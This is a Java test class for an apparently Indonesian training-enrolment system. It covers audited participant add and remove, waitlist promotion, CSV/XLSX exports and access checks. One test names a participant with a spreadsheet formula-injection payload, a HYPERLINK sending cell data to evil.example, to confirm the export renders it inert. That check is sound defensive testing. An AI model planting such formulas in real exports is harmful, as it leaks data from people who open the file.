package id.pelita.enrolment;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import id.pelita.catalog.EnrolmentMode;
import id.pelita.identity.PersonRef;
import id.pelita.shared.SpreadsheetFormat;
import id.pelita.shared.security.PelitaUser;
import id.pelita.support.SignIn;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;

import org.springframework.security.access.AccessDeniedException;

import static id.pelita.enrolment.EnrolmentFixtures.participant;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.tuple;

/**
 * Organisers' participant lists: add and remove by hand with an audited reason, exports.
 * Against a real database: H2 and PostgreSQL by the subclasses.
 */
abstract class RunParticipantsTests extends EnrolmentTestBase {

	@Test
	void organiserAddsAndRemovesParticipantsWithAReasonThatIsAudited() {
		long runId = this.fixtures.openRun(1, Map.of(), EnrolmentMode.NOMINATION_ONLY);
		List<PersonRef> people = this.fixtures.employees(2, this.serangOpd);
		SignIn.as(this.context, "penyelenggara");
		assertThat(refusal(() -> this.participants.addParticipant(runId, people.get(0).accountId(), "")).messageKey())
			.isEqualTo("participants.error.reasonRequired");
		EnrolmentOutcome first = this.participants.addParticipant(runId, people.get(0).accountId(),
				"Pengganti peserta yang sakit");
		assertThat(first.status()).isEqualTo(EnrolmentStatus.CONFIRMED);
		EnrolmentOutcome second = this.participants.addParticipantByNip(runId, people.get(1).nip(), "Permintaan BKD");
		assertThat(second.status()).isEqualTo(EnrolmentStatus.WAITLISTED);
		assertThat(refusal(() -> this.participants.addParticipant(runId, people.get(0).accountId(), "Lagi"))
			.messageKey()).isEqualTo("participants.error.alreadyEnrolled");
		this.participants.removeParticipant(first.enrolmentId(), "Mutasi ke instansi lain");

		List<Participant> participants = this.participants.participants(runId);
		assertThat(participants).extracting(Participant::accountId, Participant::status)
			.containsExactly(tuple(people.get(1).accountId(), EnrolmentStatus.CONFIRMED),
					tuple(people.get(0).accountId(), EnrolmentStatus.CANCELLED));
		assertThat(participants.get(0).nip()).isEqualTo(people.get(1).nip());
		assertThat(participants.get(0).agencyName()).isEqualTo("Dinas Kesehatan Kabupaten Serang");
		assertThat(participants.get(1).reason()).isEqualTo("Mutasi ke instansi lain");
		assertThat(this.participants.participantChanges(runId))
			.extracting(ParticipantChange::kind, ParticipantChange::reason, ParticipantChange::actorName)
			.containsExactly(
					tuple(ParticipantChange.Kind.ADDED, "Pengganti peserta yang sakit",
							"Rina Kusumawardani, S.Sos., M.Si."),
					tuple(ParticipantChange.Kind.ADDED, "Permintaan BKD",
							"Rina Kusumawardani, S.Sos., M.Si."),
					tuple(ParticipantChange.Kind.REMOVED, "Mutasi ke instansi lain",
							"Rina Kusumawardani, S.Sos., M.Si."));
		SignIn.out();
		assertThat(this.fixtures.outbox("enrolment-removed", people.get(0).accountId())).isEqualTo(1);
		assertThat(this.fixtures.outbox("enrolment-promoted", people.get(1).accountId())).isEqualTo(1);
		long openRun = this.fixtures.openRun(5, Map.of(), EnrolmentMode.OPEN);
		assertThat(enrol(people.get(0), openRun).status()).isEqualTo(EnrolmentStatus.CONFIRMED);
	}

	@Test
	void aRemovedParticipantCannotEnrolThemselvesAgain() {
		long runId = this.fixtures.openRun(5, Map.of(), EnrolmentMode.OPEN);
		PersonRef person = this.fixtures.employee(this.serangOpd);
		EnrolmentOutcome outcome = enrol(person, runId);
		SignIn.as(this.context, "penyelenggara");
		this.participants.removeParticipant(outcome.enrolmentId(), "Tidak memenuhi syarat jabatan");
		SignIn.out();
		assertThat(refusal(() -> enrol(person, runId)).messageKey()).isEqualTo("enrolment.error.removed");
	}

	@Test
	void exportsParseBackAsCsvForExcelAndAsXlsx() throws IOException {
		long runId = this.fixtures.openRun(1, Map.of(), EnrolmentMode.OPEN);
		List<PersonRef> people = this.fixtures.employees(2, this.serangOpd);
		people.forEach(person -> enrol(person, runId));
		SignIn.as(this.context, "penyelenggara");

		ByteArrayOutputStream csv = new ByteArrayOutputStream();
		this.participants.exportParticipants(runId, SpreadsheetFormat.CSV, csv);
		byte[] bytes = csv.toByteArray();
		assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
		String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
		List<CSVRecord> records;
		try (CSVParser parser = CSVParser.parse(text,
				CSVFormat.Builder.create(CSVFormat.EXCEL).setDelimiter(';').get())) {
			records = parser.getRecords();
		}
		assertThat(records).hasSize(3);
		assertThat(records.get(0).values()).containsExactly("No", "NIP", "Nama", "Instansi", "Status",
				"Urutan daftar tunggu", "Cara mendaftar", "Waktu mendaftar", "Keterangan");
		assertThat(records.get(1).get(1)).isEqualTo(people.get(0).nip());
		assertThat(records.get(1).get(4)).isEqualTo("Terdaftar");
		assertThat(records.get(2).get(4)).isEqualTo("Daftar tunggu");
		assertThat(records.get(2).get(5)).isEqualTo("1");

		ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
		this.participants.exportParticipants(runId, SpreadsheetFormat.XLSX, xlsx);
		List<List<String>> rows = new ArrayList<>();
		try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx.toByteArray()))) {
			for (Row row : workbook.getFirstSheet().read()) {
				List<String> cells = new ArrayList<>();
				for (int i = 0; i < row.getCellCount(); i++) {
					cells.add(row.getCellText(i));
				}
				rows.add(cells);
			}
		}
		assertThat(rows).hasSize(3);
		assertThat(rows.get(0).get(2)).isEqualTo("Nama");
		assertThat(rows.get(1).get(1)).isEqualTo(people.get(0).nip());
		assertThat(rows.get(1).get(2)).isEqualTo(people.get(0).fullName());
		assertThat(rows.get(2).get(4)).isEqualTo("Daftar tunggu");
		assertThat(rows.get(2).get(5)).isEqualTo("1");
	}

	@Test
	void aNameThatIsAFormulaStaysInertTextInBothDownloads() throws IOException {
		long runId = this.fixtures.openRun(5, Map.of(), EnrolmentMode.OPEN);
		String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Klik\")";
		enrol(this.fixtures.employeeNamed(formula, this.serangOpd), runId);
		SignIn.as(this.context, "penyelenggara");

		ByteArrayOutputStream csv = new ByteArrayOutputStream();
		this.participants.exportParticipants(runId, SpreadsheetFormat.CSV, csv);
		byte[] bytes = csv.toByteArray();
		try (CSVParser parser = CSVParser.parse(new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8),
				CSVFormat.Builder.create(CSVFormat.EXCEL).setDelimiter(';').get())) {
			assertThat(parser.getRecords().get(1).get(2)).isEqualTo("'" + formula);
		}

		ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
		this.participants.exportParticipants(runId, SpreadsheetFormat.XLSX, xlsx);
		try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx.toByteArray()))) {
			Cell name = workbook.getFirstSheet().read().get(1).getCell(2);
			assertThat(name.getType()).isEqualTo(CellType.STRING);
			assertThat(name.getFormula()).isNull();
			assertThat(name.asString()).isEqualTo("'" + formula);
		}
	}

	@Test
	void participantsCannotSeeTheParticipantList() {
		long runId = this.fixtures.openRun(5, Map.of(), EnrolmentMode.OPEN);
		PersonRef person = this.fixtures.employee(this.serangOpd);
		assertThatExceptionOfType(AccessDeniedException.class)
			.isThrownBy(() -> this.fixtures.as(participant(person), () -> this.participants.participants(runId)));
	}

	@Test
	void coordinatorsCannotChangeOrExportARunsParticipants() {
		long runId = this.fixtures.openRun(5, Map.of(), EnrolmentMode.OPEN);
		PersonRef person = this.fixtures.employee(this.serangOpd);
		EnrolmentOutcome outcome = enrol(person, runId);
		PelitaUser coordinator = this.fixtures.coordinator(this.serangOpd);
		assertThatExceptionOfType(AccessDeniedException.class).isThrownBy(() -> this.fixtures.as(coordinator,
				() -> this.participants.addParticipant(runId, coordinator.accountId(), "Ikut sendiri")));
		assertThatExceptionOfType(AccessDeniedException.class).isThrownBy(() -> this.fixtures.as(coordinator,
				() -> this.participants.removeParticipant(outcome.enrolmentId(), "Tidak jadi")));
		assertThatExceptionOfType(AccessDeniedException.class).isThrownBy(() -> this.fixtures.as(coordinator,
				() -> this.participants.exportParticipants(runId, SpreadsheetFormat.CSV, new ByteArrayOutputStream())));
		assertThat(status(person, runId)).isEqualTo(EnrolmentStatus.CONFIRMED);
		assertThat(this.enrolments.seatsLeft(runId)).isEqualTo(4);
	}

}
